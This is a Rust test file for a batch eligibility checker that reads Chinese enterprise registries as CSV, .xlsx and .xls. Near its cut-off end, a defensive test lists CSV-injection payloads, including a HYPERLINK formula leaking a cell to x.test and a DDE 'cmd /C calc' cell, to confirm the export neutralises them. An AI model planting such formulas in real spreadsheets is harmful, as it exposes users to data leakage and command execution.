//! Batch matching through the library: reading files in every
//! encoding and as .xlsx, headers mapped, cells read as people type them
//! (held to the vectors parse.js is held to), bad cells as error rows while
//! every other row is checked, rows in = rows out, and the exports.
#![cfg(feature = "batch")]

use hitech_eligibility::engine::fact::{Audience, Fact};
use hitech_eligibility::engine::measure::Nature;
use hitech_eligibility::shell::batch::cell::{self, AgeValue, ChoiceValue, MoneyUnit, Problem};
use hitech_eligibility::shell::batch::{export, notify, Batch};
use hitech_eligibility::shell::parts::number_value;
use hitech_eligibility::{CivilDate, Profile};
use serde_json::Value;
use trial::{trial_registry, TRIAL_AS_OF};

mod trial;

const AS_OF: &str = "2026-11-29";

fn fixture(name: &str) -> Vec<u8> {
    std::fs::read(format!("{}/tests/fixtures/batch/{name}", env!("CARGO_MANIFEST_DIR"))).unwrap()
}

fn json(text: &str) -> Value {
    serde_json::from_str(text).unwrap()
}

fn describe(batch: &Batch) -> Value {
    json(&serde_json::to_string(&batch.describe()).unwrap())
}

fn summary(batch: &Batch) -> Value {
    json(&serde_json::to_string(&batch.summary()).unwrap())
}

fn table(batch: &Batch, measure: &str, status: &str) -> Value {
    json(&serde_json::to_string(&batch.table(measure, status, 0, usize::MAX).unwrap()).unwrap())
}

/// Why a file is refused.
fn refused(bytes: &[u8], kind: &str, encoding: &str) -> String {
    match Batch::read(bytes, kind, encoding) {
        Ok(_) => panic!("read"),
        Err(error) => error.to_string(),
    }
}

fn read(bytes: &[u8]) -> Batch {
    Batch::read(bytes, "auto", "auto").unwrap_or_else(|e| panic!("{e}"))
}

/// The problem as the vectors write it.
fn problem_json(problem: &Problem) -> Value {
    match problem {
        Problem::Unknown { understood, unknown } => {
            serde_json::json!({ "kind": "unknown", "understood": understood, "unknown": unknown.to_string() })
        }
        other => serde_json::json!({ "kind": other.kind() }),
    }
}

fn expect<T>(entry: &Value, got: Result<Option<T>, Problem>, value: impl Fn(T) -> Value) {
    let input = &entry["input"];
    match got {
        Ok(None) => assert_eq!(entry["empty"], true, "{input}: read as empty"),
        Ok(Some(read)) => assert_eq!(value(read), entry["value"], "{input}"),
        Err(problem) => assert_eq!(problem_json(&problem), entry["problem"], "{input}"),
    }
}

#[test]
fn typed_values_read_as_parse_js_reads_them() {
    let vectors = json(&String::from_utf8(fixture("typed-values.json")).unwrap());
    let yuan = vectors["yuan"].as_array().unwrap();
    assert!(yuan.len() > 30);
    for entry in yuan {
        let input = entry["input"].as_str().unwrap();
        #[allow(clippy::cast_precision_loss)]
        expect(entry, cell::read_fen(input, MoneyUnit::Yuan), |fen| number_value(fen as f64 / 100.0));
    }
    for entry in vectors["date"].as_array().unwrap() {
        expect(entry, cell::read_date(entry["input"].as_str().unwrap()), |date| Value::from(date.to_string()));
    }
    for entry in vectors["age"].as_array().unwrap() {
        expect(entry, cell::read_age(entry["input"].as_str().unwrap()), |age| match age {
            AgeValue::Years(years) => serde_json::json!({ "age": years }),
            AgeValue::BirthDate(date) => serde_json::json!({ "birthDate": date.to_string() }),
        });
    }
    for entry in vectors["yesNo"].as_array().unwrap() {
        expect(entry, cell::read_bool(entry["input"].as_str().unwrap()), Value::from);
    }
    for entry in vectors["choices"].as_array().unwrap() {
        let fact = Fact::from_name(entry["fact"].as_str().unwrap()).unwrap();
        expect(entry, cell::read_choice(fact, entry["input"].as_str().unwrap()), |value| match value {
            ChoiceValue::Index(index) => Value::from(fact.choice(index).unwrap()),
            ChoiceValue::NoZone => Value::Null,
        });
    }
}

const HEADER: &str =
    "企业名称,统一社会信用代码,所在高新区,营业收入（万元）,研发费用,是否高新技术企业,是否规上,是否在科创板上市,备注";

#[test]
fn encodings_are_detected_and_can_be_overridden() {
    let text = format!("{HEADER}\r\n甲公司,915000,重庆高新区,50000,1亿,是,是,是,无\r\n");
    let gbk: Vec<u8> = encoding_rs::GB18030.encode(&text).0.into_owned();
    assert!(std::str::from_utf8(&gbk).is_err(), "GBK bytes are not UTF-8");
    let bom = [b"\xEF\xBB\xBF".as_slice(), text.as_bytes()].concat();
    for (bytes, encoding) in [(text.as_bytes(), "utf-8"), (&bom[..], "utf-8-bom"), (&gbk[..], "gb18030")] {
        let described = describe(&read(bytes));
        assert_eq!(described["encoding"], encoding);
        assert_eq!(described["encodingGuessed"], true);
        assert_eq!(described["kind"], "csv");
        assert_eq!(described["headers"][0], "企业名称", "{encoding}: the BOM is not part of the first header");
        assert_eq!(described["sample"][0][2], "重庆高新区");
    }
    // Told, not guessed: GBK read as UTF-8 gives nothing a header can be
    // mapped from; UTF-8 read as GB18030 the same.
    let forced = Batch::read(&gbk, "csv", "utf-8").unwrap();
    let described = describe(&forced);
    assert_eq!(described["encoding"], "utf-8");
    assert_eq!(described["encodingGuessed"], false);
    assert!(described["mapping"].as_array().unwrap().iter().all(Value::is_null), "{described}");
    let forced = describe(&Batch::read(text.as_bytes(), "auto", "gb18030").unwrap());
    assert_eq!(forced["encoding"], "gb18030");
    assert_ne!(forced["headers"][0], "企业名称");
    assert!(refused(text.as_bytes(), "auto", "latin1").starts_with("encoding:"));
    // A UTF-8 byte-order mark before a GBK body (a tool's mistake): read as
    // GBK, the mark dropped, not every Chinese cell as U+FFFD.
    let lying = [b"\xEF\xBB\xBF".as_slice(), &gbk].concat();
    for (kind, encoding) in [("auto", "auto"), ("csv", "gb18030")] {
        let described = describe(&Batch::read(&lying, kind, encoding).unwrap());
        assert_eq!(described["encoding"], "gb18030");
        assert_eq!(described["headers"][0], "企业名称");
        assert_eq!(described["sample"][0][2], "重庆高新区");
    }
}

#[test]
fn headers_are_mapped_and_unmapped_columns_kept() {
    let text = format!("{HEADER}\r\n甲公司,915000,重庆高新区,50000,1亿,是,是,是,无\r\n");
    let described = describe(&read(text.as_bytes()));
    let mapping: Vec<Value> = described["mapping"].as_array().unwrap().clone();
    assert_eq!(
        mapping,
        [
            "@name",
            "@code",
            "zone",
            "revenueYuan",
            "rdExpenseYuan",
            "highTechEnterprise",
            "aboveDesignatedSize",
            "listedOnStarMarket"
        ]
        .iter()
        .map(|t| Value::from(*t))
        .chain([Value::Null])
        .collect::<Vec<_>>()
    );
    assert_eq!(described["rows"], 1);
    // The unmapped column is exported as it was read.
    let mut batch = read(text.as_bytes());
    batch.run(0, 1, AS_OF).unwrap();
    let export = String::from_utf8(batch.export_csv()).unwrap();
    assert!(export
        .lines()
        .nth(1)
        .unwrap()
        .starts_with("甲公司,915000,重庆高新区,50000,1亿,是,是,是,无,invalid credit code (check digit),,"));
}

/// The status of `measure` in data row `index` of a batch that has run.
fn status(batch: &Batch, index: usize, measure: &str) -> String {
    let rows = table(batch, "", "");
    let ids: Vec<String> =
        summary(batch)["measures"].as_array().unwrap().iter().map(|m| m["id"].as_str().unwrap().to_owned()).collect();
    let position = ids.iter().position(|id| id == measure).unwrap();
    rows["rows"][index]["statuses"][position].as_str().unwrap().to_owned()
}

#[test]
fn a_unit_in_the_header_scales_the_column() {
    // Guizhou's STAR-market cultivation: revenue strictly over 300,000,000
    // yuan (30,000 万元) and R&D strictly over 5 % of it.
    let text = "所在高新区,营业收入（万元）,研发投入（万元）,是否高新技术企业\r\n\
                贵阳高新区,30000,2000,是\r\n\
                贵阳高新区,30000.01,2000,是\r\n\
                贵阳高新区,3亿元,2000,是\r\n\
                贵阳高新区,\"30,001\",1500.06,是\r\n\
                贵阳高新区,\"30,001\",1500.05,是\r\n";
    let mut batch = read(text.as_bytes());
    assert_eq!(batch.run(0, usize::MAX, AS_OF).unwrap(), 5);
    let id = "guizhou.star-listing-cultivation";
    assert_eq!(status(&batch, 0, id), "ineligible", "30,000 万元 is not over 3亿");
    assert_eq!(status(&batch, 1, id), "eligible", "30,000.01 万元 is");
    assert_eq!(status(&batch, 2, id), "ineligible", "a cell's own unit wins: 3亿元");
    assert_eq!(status(&batch, 3, id), "eligible", "1500.06 of 30001 is over 5 %");
    assert_eq!(status(&batch, 4, id), "ineligible", "1500.05 of 30001 is exactly 5 %");
}

#[test]
fn bad_cells_make_error_rows_and_every_other_row_is_checked() {
    let text = format!(
        "{HEADER}\r\n\
         甲公司,1,重庆高新区,5OO,,是,是,是,\r\n\
         乙公司,2,重庆高新区,50000,,是,是,是,\r\n\
         ,,,,,,,,\r\n\
         丙公司,3,深圳高新区,1,,不确定,是,是,\r\n\
         丁公司,4,重庆高新区,-5,,是,是,是,\r\n\
         戊公司,5,成都高新区,100,,是,是,否,\r\n\
         ,,,,,,,,\r\n"
    );
    let mut batch = read(text.as_bytes());
    assert_eq!(describe(&batch)["rows"], 6, "the blank row at the end is not a row; the one between is");
    batch.run(0, 6, AS_OF).unwrap();
    let summary = summary(&batch);
    assert_eq!(
        (summary["rows"].as_u64(), summary["checked"].as_u64(), summary["failed"].as_u64()),
        (Some(6), Some(2), Some(4))
    );
    let errors: Vec<(u64, u64, String, String)> = summary["errors"]
        .as_array()
        .unwrap()
        .iter()
        .map(|e| {
            (
                e["row"].as_u64().unwrap(),
                e["column"].as_u64().unwrap(),
                e["header"].as_str().unwrap().to_owned(),
                e["problem"].as_str().unwrap().to_owned(),
            )
        })
        .collect();
    let rows_and_columns: Vec<(u64, u64, &str)> = errors.iter().map(|(r, c, h, _)| (*r, *c, h.as_str())).collect();
    assert_eq!(
        rows_and_columns,
        [
            (2, 4, "营业收入（万元）"),
            (4, 0, ""),
            (5, 3, "所在高新区"),
            (5, 6, "是否高新技术企业"),
            (6, 4, "营业收入（万元）"),
        ]
    );
    assert!(errors[0].3.contains("\"O\""), "{}", errors[0].3);
    assert!(errors[1].3.contains("empty row"));
    assert!(errors[4].3.contains("negative"));
    // Each problem also as data, for the page to word in its language.
    let details: Vec<&Value> = summary["errors"].as_array().unwrap().iter().map(|e| &e["detail"]).collect();
    assert_eq!(details[0], &serde_json::json!({ "kind": "unknown", "understood": "5", "unknown": "O" }));
    assert_eq!(details[1], &serde_json::json!({ "kind": "emptyRow" }));
    assert_eq!(details[2]["kind"], "choice");
    assert!(details[2]["allowed"].as_str().unwrap().contains("chengdu"), "{}", details[2]);
    assert_eq!(details[3], &serde_json::json!({ "kind": "yesNo" }));
    assert_eq!(details[4], &serde_json::json!({ "kind": "negative" }));
    // The error rows, with their cells' problems, and no statuses.
    let failed = table(&batch, "", "error");
    assert_eq!(failed["total"], 4);
    assert_eq!(failed["rows"][2]["row"], 5);
    assert_eq!(failed["rows"][2]["name"], "丙公司");
    assert_eq!(failed["rows"][2]["error"].as_array().unwrap().len(), 2);
    assert_eq!(failed["rows"][2]["error"][1]["detail"], serde_json::json!({ "kind": "yesNo" }));
    assert_eq!(failed["rows"][2]["statuses"], serde_json::json!([]));
    // The others are checked: 乙 in Chongqing is eligible for the draft award.
    assert_eq!(status(&batch, 0, "chongqing.star-listing-award"), "eligible");
    let eligible = table(&batch, "chongqing.star-listing-award", "eligible");
    assert_eq!(eligible["total"], 1);
    assert_eq!(eligible["rows"][0]["row"], 3);
    assert_eq!(eligible["rows"][0]["code"], "2");
    // Rows in = rows out, and each error row says what was wrong.
    let export = String::from_utf8(batch.export_csv()).unwrap();
    let lines: Vec<&str> = export.trim_start_matches('\u{feff}').split("\r\n").filter(|l| !l.is_empty()).collect();
    assert_eq!(lines.len(), 7);
    // The error names the cell and the value read there, for whoever fixes the registry.
    assert!(lines[1].contains(r#"column 4 (营业收入（万元）) ""5OO"": read ""5"", then ""O"""#), "{}", lines[1]);
}

#[test]
fn rows_match_the_profiles_they_stand_for() {
    // Each row and the JSON profile it stands for, evaluated by the library.
    let text = "企业名称,所在省份,高新区级别,营业收入,研发费用（元）,是否高新技术企业,是否规上,科技型中小企业,年龄,是否外籍\r\n\
                a,重庆,省级,200万,￥150000,√,Y,×,,\r\n\
                b,贵州省,国家级,1.5亿元,\"9,000,000\",是,否,1,,\r\n\
                c,四川,国家级,,,,,,1962年11月28日,是\r\n\
                d,其他,无,0,0,false,true,no,64岁,N\r\n";
    let profiles = [
        r#"{"province":"chongqing","zoneLevel":"provincial","revenueYuan":2000000,"rdExpenseYuan":150000,"highTechEnterprise":true,"aboveDesignatedSize":true,"techSme":false}"#,
        r#"{"province":"guizhou","zoneLevel":"national","revenueYuan":150000000,"rdExpenseYuan":9000000,"highTechEnterprise":true,"aboveDesignatedSize":false,"techSme":true}"#,
        r#"{"province":"sichuan","zoneLevel":"national","birthDate":"1962-11-28","foreignNational":true}"#,
        r#"{"province":"other","zoneLevel":"none","revenueYuan":0,"rdExpenseYuan":0,"highTechEnterprise":false,"aboveDesignatedSize":true,"techSme":false,"age":64,"foreignNational":false}"#,
    ];
    let mut batch = read(text.as_bytes());
    batch.run(0, 4, AS_OF).unwrap();
    assert_eq!(summary(&batch)["failed"], 0, "{}", summary(&batch)["errors"]);
    let rows = table(&batch, "", "");
    let as_of = CivilDate::parse(AS_OF).unwrap();
    for (index, profile) in profiles.iter().enumerate() {
        let report = hitech_eligibility::evaluate(&Profile::from_json(profile, as_of).unwrap());
        for (position, result) in report.results.iter().enumerate() {
            let row = &rows["rows"][index];
            assert_eq!(
                row["statuses"][position],
                hitech_eligibility::output::encode::status_name(result.status),
                "row {index} {}",
                result.id
            );
            let missing: Vec<&str> = result.missing.iter().map(|f| f.name()).collect();
            let expected: Vec<&str> =
                if result.status == hitech_eligibility::Status::Unknown { missing } else { Vec::new() };
            assert_eq!(row["missing"][position], serde_json::json!(expected), "row {index} {}", result.id);
        }
    }
}

#[test]
fn the_mapping_can_be_changed_and_is_checked() {
    let text = format!("{HEADER}\r\n甲公司,915000,重庆高新区,50000,,是,是,是,无\r\n");
    let mut batch = read(text.as_bytes());
    batch.run(0, 1, AS_OF).unwrap();
    assert_eq!(summary(&batch)["checked"], 1);
    let error = batch.set_mapping(r#"["@name",null,"zone","revenue",null,null,null,null,null]"#).unwrap_err();
    assert_eq!(error.to_string(), "column 4 (营业收入（万元）): unknown target \"revenue\"");
    let error = batch.set_mapping(r#"["@name",null,"zone","zone",null,null,null,null,null]"#).unwrap_err();
    assert!(
        error.to_string().starts_with("column 4 (营业收入（万元）): zone is already the target of column 3"),
        "{error}"
    );
    assert!(batch.set_mapping(r#"["@name"]"#).is_err(), "one entry per column");
    // Without the star-market column the award is unknown; the results of
    // the earlier run are gone.
    batch
        .set_mapping(
            r#"["@name","@code","zone","revenueYuan",null,"highTechEnterprise","aboveDesignatedSize",null,null]"#,
        )
        .unwrap();
    assert_eq!(summary(&batch)["checked"], 0, "a new mapping clears the results");
    batch.run(0, 1, AS_OF).unwrap();
    assert_eq!(status(&batch, 0, "chongqing.star-listing-award"), "unknown");
    let summary = summary(&batch);
    let award =
        summary["measures"].as_array().unwrap().iter().find(|m| m["id"] == "chongqing.star-listing-award").unwrap();
    assert_eq!((award["unknown"].as_u64(), award["draft"].as_bool()), (Some(1), Some(true)));
    assert!(summary["question"]["settles"].as_u64().unwrap() >= 1);
    assert!(batch.table("no.such-measure", "", 0, 10).is_err());
    assert!(batch.table("", "maybe", 0, 10).is_err());
    assert!(batch.run(0, 1, "29.11.2026").is_err());
}

#[test]
fn the_question_is_the_fact_missing_from_the_most_unknown_results() {
    let text = "所在高新区,是否高新技术企业\r\n重庆高新区,是\r\n璧山高新区,是\r\n";
    let mut batch = read(text.as_bytes());
    batch.run(0, 2, AS_OF).unwrap();
    let summary = summary(&batch);
    let fact = summary["question"]["fact"].as_str().unwrap();
    let settles = summary["question"]["settles"].as_u64().unwrap();
    // Counted by hand from the table: no fact is missing from more results.
    let rows = table(&batch, "", "unknown");
    let count = |name: &str| -> u64 {
        rows["rows"]
            .as_array()
            .unwrap()
            .iter()
            .flat_map(|r| r["missing"].as_array().unwrap().iter())
            .filter(|m| m.as_array().unwrap().iter().any(|f| f == name))
            .count() as u64
    };
    assert_eq!(count(fact), settles);
    for other in Fact::ALL {
        assert!(count(other.name()) <= settles, "{} settles more than {fact}", other.name());
    }
    // For each audience, the same count over that audience's measures only.
    let audience_of: Vec<_> = hitech_eligibility::measures().map(|m| m.audiences).collect();
    let count_for = |name: &str, audience: Audience| -> u64 {
        rows["rows"]
            .as_array()
            .unwrap()
            .iter()
            .flat_map(|r| r["missing"].as_array().unwrap().iter().zip(&audience_of))
            .filter(|(m, a)| {
                a.contains(&audience)
                    && m.as_array().unwrap().iter().any(|f| f == name)
                    && Fact::from_name(name).unwrap().audiences().contains(&audience)
            })
            .count() as u64
    };
    for audience in Audience::ALL {
        let q = &summary["questionByAudience"][audience.name()];
        let fact = q["fact"].as_str().unwrap_or_else(|| panic!("{}: {summary}", audience.name()));
        let settles = q["settles"].as_u64().unwrap();
        assert_eq!(count_for(fact, audience), settles, "{}", audience.name());
        for other in Fact::ALL {
            assert!(count_for(other.name(), audience) <= settles, "{}: {} settles more", audience.name(), other.name());
        }
    }
    // An enterprise list is asked an enterprise's question, not a foreign expert's.
    let enterprise = summary["questionByAudience"]["enterprise"]["fact"].as_str().unwrap();
    let asked_of = Fact::ALL.into_iter().find(|f| f.name() == enterprise).unwrap().audiences();
    assert!(asked_of.contains(&Audience::Enterprise), "{enterprise}");
}

#[test]
fn xlsx_in_and_out() {
    // An .xlsx as Excel keeps it: numbers, booleans and dates as typed cells.
    let mut workbook = rust_xlsxwriter::Workbook::new();
    let sheet = workbook.add_worksheet();
    let date = rust_xlsxwriter::Format::new().set_num_format("yyyy-mm-dd");
    for (column, header) in
        ["企业名称", "所在高新区", "营业收入（万元）", "是否高新技术企业", "是否规上", "是否在科创板上市", "出生日期"]
            .iter()
            .enumerate()
    {
        sheet.write_string(0, u16::try_from(column).unwrap(), *header).unwrap();
    }
    sheet.write_string(1, 0, "甲公司").unwrap();
    sheet.write_string(1, 1, "重庆高新区").unwrap();
    sheet.write_number(1, 2, 50000.5).unwrap();
    sheet.write_boolean(1, 3, true).unwrap();
    sheet.write_string(1, 4, "是").unwrap();
    sheet.write_number(1, 5, 1).unwrap();
    sheet
        .write_datetime_with_format(1, 6, rust_xlsxwriter::ExcelDateTime::from_ymd(1962, 11, 28).unwrap(), &date)
        .unwrap();
    sheet.write_string(2, 0, "乙公司").unwrap();
    sheet.write_string(2, 1, "火星高新区").unwrap();
    let bytes = workbook.save_to_buffer().unwrap();
    let mut batch = read(&bytes);
    let described = describe(&batch);
    assert_eq!(described["kind"], "xlsx");
    assert_eq!(described["encoding"], Value::Null);
    assert_eq!(
        described["sample"][0],
        serde_json::json!(["甲公司", "重庆高新区", "50000.5", "TRUE", "是", "1", "1962-11-28"])
    );
    assert_eq!(described["mapping"][6], "birthDate");
    batch.run(0, 2, AS_OF).unwrap();
    assert_eq!(status(&batch, 0, "chongqing.star-listing-award"), "eligible");
    assert_eq!(summary(&batch)["errors"][0]["row"], 3);

    // The export read back with calamine: the CSV export's table, cell for cell.
    let exported = batch.export_xlsx().unwrap();
    let back = hitech_eligibility::shell::batch::input::read_xlsx(&exported).unwrap();
    let csv = String::from_utf8(batch.export_csv()).unwrap();
    let mut reader =
        csv::ReaderBuilder::new().has_headers(false).from_reader(csv.trim_start_matches('\u{feff}').as_bytes());
    let table: Vec<Vec<String>> = reader.records().map(|r| r.unwrap().iter().map(str::to_owned).collect()).collect();
    assert_eq!(back.headers, table[0]);
    assert_eq!(back.rows.len(), table.len() - 1, "rows in = rows out");
    for (row, expected) in back.rows.iter().zip(&table[1..]) {
        let mut cells = row.cells.to_vec();
        cells.resize(expected.len(), String::new());
        assert_eq!(&cells, expected);
    }
    // The same results always give the same bytes (a fixed creation date).
    assert_eq!(batch.export_xlsx().unwrap(), exported);
}

#[test]
fn files_that_cannot_be_read_say_why() {
    assert!(refused(b"", "auto", "auto").contains("empty"));
    assert!(Batch::read(b"\r\n\r\n", "auto", "auto").is_err());
    assert!(refused(b"\xD0\xCF\x11\xE0\xA1\xB1\x1A\xE1rest", "auto", "auto").contains(".xls"));
    assert!(refused(b"PK\x03\x04 not really a zip", "auto", "auto").contains(".xlsx"));
    assert!(refused(b"a,b", "ods", "auto").starts_with("kind:"));
}

/// An old binary .xls (BIFF8), as 政务 systems and WPS's "Excel 97-2003"
/// write it (tests/fixtures/batch/generate_mianyang.py): a note sheet
/// first, a merged title row, the park merged down over its firms, the
/// certificate's expiry as date cells, amounts stored as text. It was
/// refused ("save it as .xlsx or CSV"); it now reads as the same sheet
/// saved by Excel as CSV: the same mapping, errors and statuses, and the
/// same export but for the park, which the .xls gives every firm of its
/// merged range (the CSV only the first).
#[test]
fn an_old_xls_reads_as_its_csv_twin() {
    let mut exports = Vec::new();
    for name in ["registry-mianyang.xls", "registry-mianyang.csv"] {
        let mut batch = read(&fixture(name));
        let described = describe(&batch);
        assert_eq!(described["kind"], if name.ends_with("xls") { "xls" } else { "csv" });
        assert_eq!((described["headerRow"].as_u64(), described["skippedRows"].as_u64()), (Some(2), Some(1)), "{name}");
        if name.ends_with("xls") {
            assert_eq!(
                described["worksheet"],
                serde_json::json!({"number": 2, "name": "企业名录"}),
                "a note sheet first"
            );
        }
        assert_eq!(described["rows"], 62, "{name}: 60 firms, one twice, a total");
        let targets: Vec<Option<&str>> = described["mapping"].as_array().unwrap().iter().map(Value::as_str).collect();
        assert_eq!(
            targets,
            [
                None,
                Some("zone"),
                Some("@name"),
                Some("@code"),
                Some("qualifications"),
                Some("highTechCertificateExpiry"),
                Some("aboveDesignatedSize"),
                Some("revenueYuan"),
                Some("rdExpenseYuan"),
                Some("listedOnStarMarket"),
                None,
                None
            ],
            "{name}"
        );
        batch.set_settings(r#"{"zone": "mianyang"}"#).unwrap();
        batch.run(0, usize::MAX, TRIAL_AS_OF).unwrap();
        let s = summary(&batch);
        let errors: Vec<(u64, u64, &str)> = s["errors"]
            .as_array()
            .unwrap()
            .iter()
            .map(|e| (e["row"].as_u64().unwrap(), e["column"].as_u64().unwrap(), e["value"].as_str().unwrap()))
            .collect();
        assert_eq!(
            errors,
            [(14, 6, "2025-13-01"), (26, 8, "3O00"), (40, 7, "是否"), (64, 1, "合计")],
            "{name}: the typos and the total, at the sheet's own rows"
        );
        assert_eq!(s["duplicates"], 1, "{name}");
        assert_eq!(s["expiredCertificates"], 27, "{name}: date cells read as days, compared with the check date");
        let rows = table(&batch, "", "");
        let statuses: Vec<Value> = rows["rows"].as_array().unwrap().iter().map(|r| r["statuses"].clone()).collect();
        exports.push((batch.export_csv(), statuses));
    }
    assert!(exports[0].1 == exports[1].1, "the .xls and its CSV: the same statuses, row for row");
    let (xls, csv) =
        (String::from_utf8(exports[0].0.clone()).unwrap(), String::from_utf8(exports[1].0.clone()).unwrap());
    let parks = |export: &str| export.lines().skip(1).filter(|line| line.split(',').nth(1) != Some("")).count();
    assert_eq!(
        parks(&xls) - parks(&csv),
        57,
        "the park merged down: every one of the 61 firms' in the .xls, the 4 groups' first in the CSV"
    );
    let without_park = |export: &str| {
        export
            .lines()
            .map(|line| {
                line.splitn(3, ',').enumerate().filter(|(i, _)| *i != 1).map(|(_, c)| c).collect::<Vec<_>>().join(",")
            })
            .collect::<Vec<_>>()
    };
    assert_eq!(without_park(&xls), without_park(&csv), "the same export but for the park");
    let export = String::from_utf8(exports.swap_remove(0).0).unwrap();
    assert!(export.contains(",2025-02-03,"), "a date cell reads as its day");
    assert!(export.contains(",\"6,981.49\","), "an amount stored as text stays as typed");
}

/// A workbook of the 1904 date system (Excel for Mac's old default): its
/// date cells are the same days as in the 1900 system's workbook.
#[test]
fn an_xls_of_the_1904_date_system_reads_the_same_days() {
    let batch = read(&fixture("registry-mianyang-1904.xls"));
    let export = batch.export_csv();
    let mut reader = csv::ReaderBuilder::new().from_reader(export.as_slice());
    let days: Vec<String> = reader.records().map(|record| record.unwrap()[5].to_owned()).collect();
    assert_eq!(days, ["2025-02-03", "2026-11-07", "2024-01-07", "2026-04-14", "2024-05-19"]);
}

/// An .xls that cannot be read says why, naming no cell it never read: a
/// password (a FilePass record), a file cut short, a cell record far out
/// (which calamine would lay out as billions of cells), and any damage
/// (every cut at a sector boundary, bytes changed at random) is an error,
/// never a panic.
#[test]
fn an_xls_that_cannot_be_read_says_why() {
    let xls = fixture("registry-mianyang.xls");
    // WindowProtect (0x0019, 2 bytes) in the workbook's globals, made a FilePass of the same length.
    let mut encrypted = xls.clone();
    let at = encrypted.windows(6).position(|w| w == b"\x19\x00\x02\x00\x00\x00").unwrap();
    encrypted[at..at + 6].copy_from_slice(b"\x2F\x00\x02\x00\x01\x00");
    assert!(refused(&encrypted, "auto", "auto").contains("password-protected"));
    // An encrypted .xlsx is an OLE file too, its package in a stream named EncryptedPackage.
    let utf16 = |name: &str| -> Vec<u8> { name.encode_utf16().chain([0]).flat_map(u16::to_le_bytes).collect() };
    let mut package = xls.clone();
    let at = package.windows(18).position(|w| w == utf16("Workbook").as_slice()).unwrap();
    let name = utf16("EncryptedPackage");
    package[at..at + name.len()].copy_from_slice(&name);
    package[at + 0x40] = name.len() as u8;
    assert!(refused(&package, "auto", "auto").contains("password-protected"));
    assert!(refused(&xls[..xls.len() / 2], "auto", "auto").contains("cut short"));
    // The first LabelSst (0x00FD, 10 bytes) moved to row 65,536, column 65,281.
    let mut far = xls.clone();
    let at = far.windows(4).position(|w| w == b"\xFD\x00\x0A\x00").unwrap();
    far[at + 4..at + 8].copy_from_slice(b"\xFF\xFF\x00\xFF");
    assert!(refused(&far, "auto", "auto").contains("cells in the .xls"));
    let mut seed = 20_261_206u64;
    let mut next = move || {
        seed ^= seed << 13;
        seed ^= seed >> 7;
        seed ^= seed << 17;
        seed
    };
    let mut damaged: Vec<Vec<u8>> = (1..xls.len() / 512).map(|sectors| xls[..sectors * 512].to_vec()).collect();
    for _ in 0..120 {
        let mut bytes = xls.clone();
        for _ in 0..1 + next() % 6 {
            let at = (next() as usize) % bytes.len();
            bytes[at] = next() as u8;
        }
        damaged.push(bytes);
    }
    for bytes in damaged {
        // Read, or refused with a reason; a panic fails the test.
        if let Err(error) = Batch::read(&bytes, "auto", "auto") {
            assert!(!error.to_string().is_empty());
        }
    }
}

#[test]
fn the_fixture_reads_as_the_cli_reads_it() {
    // The 1,000-row GBK fixture: all rows kept, the bad ones reported.
    let mut batch = read(&fixture("enterprises-gbk.csv"));
    let described = describe(&batch);
    assert_eq!(described["encoding"], "gb18030");
    assert_eq!(described["rows"], 1000);
    batch.run(0, 400, AS_OF).unwrap();
    batch.run(400, 2000, AS_OF).unwrap();
    let summary = summary(&batch);
    assert_eq!(summary["checked"].as_u64().unwrap() + summary["failed"].as_u64().unwrap(), 1000);
    assert_eq!(summary["failed"], 40);
    let export = batch.export_csv();
    assert_eq!(export.split(|b| *b == b'\n').filter(|l| !l.is_empty()).count(), 1001);
}

#[test]
fn cells_with_commas_quotes_and_line_breaks_are_exported_as_read() {
    let text =
        "企业名称,是否高新技术企业,备注\r\n\"甲,乙 \"\"联合\"\" 公司\",是,\"第一行\r\n第二行\"\r\n丙公司,也许,\r\n";
    let mut batch = read(text.as_bytes());
    assert_eq!(describe(&batch)["rows"], 2, "a quoted line break stays in its cell");
    batch.run(0, 2, AS_OF).unwrap();
    let export = batch.export_csv();
    let mut reader = csv::ReaderBuilder::new().has_headers(false).from_reader(&export[3..]);
    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
    assert_eq!(rows.len(), 3);
    assert_eq!(&rows[1][0], "甲,乙 \"联合\" 公司");
    assert_eq!(&rows[1][2], "第一行\r\n第二行");
    assert_eq!(&rows[0][3], "code check");
    assert_eq!(&rows[1][4], "", "no error");
    assert!(rows[2][4].contains("column 2 (是否高新技术企业)"), "{}", &rows[2][4]);
    assert_eq!(
        rows.iter().map(csv::StringRecord::len).collect::<Vec<_>>(),
        vec![rows[0].len(); 3],
        "every row as wide as the header"
    );
}

/// Cells a spreadsheet would run as formulas (OWASP's CSV injection), in
/// the header, a mapped name, a mapped number and a kept column.
const FORMULA_CELLS: [&str; 10] = [
    "=HYPERLINK(\"http://x.test/?leak=\"&C2,\"点击\")",
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
];

#[test]
fn the_csv_export_writes_formulas_as_text() {
    let mut text = String::from("企业名称,营业收入（万元）,备注,\"=HYPERLINK(\"\"http://x.test\"\")\"\r\n");
    for cell in FORMULA_CELLS {
        let quoted = format!("\"{}\"", cell.replace('"', "\"\""));
        text.push_str(&format!("{quoted},-5,{quoted},{quoted}\r\n"));
    }
    text.push_str("甲公司,200,'已有引号,a=b\r\n");
    let mut batch = read(text.as_bytes());
    batch.run(0, batch.rows(), AS_OF).unwrap();
    let export = batch.export_csv();
    let mut reader = csv::ReaderBuilder::new().has_headers(false).flexible(true).from_reader(&export[3..]);
    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
    assert_eq!(&rows[0][3], "'=HYPERLINK(\"http://x.test\")", "a header too");
    for (row, cell) in rows[1..].iter().zip(FORMULA_CELLS) {
        for column in [0, 2, 3] {
            assert_eq!(row[column], format!("'{cell}"), "column {column}");
        }
        assert_eq!(&row[1], "'-5", "a number as read is a cell as read");
    }
    let last = &rows[FORMULA_CELLS.len() + 1];
    assert_eq!([&last[0], &last[1], &last[2], &last[3]], ["甲公司", "200", "'已有引号", "a=b"], "other cells as read");
    for row in &rows {
        for cell in row.iter().skip(4) {
            assert!(!export::starts_a_formula(cell.as_bytes()), "{cell:?}");
        }
    }
    assert_eq!(export::spreadsheet_safe("－1"), "'－1");
    assert_eq!(export::spreadsheet_safe("1-2"), "1-2");
}

/// An .xlsx made by hand: the sheet's `<sheetData>` content and the shared
/// strings' (`sst` the `<sst>` tag's attributes), as a hostile file has them.
fn handmade_xlsx(sheet_data: &str, sst: &str, strings: &[&str]) -> Vec<u8> {
    use std::io::Write;
    let mut zip = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
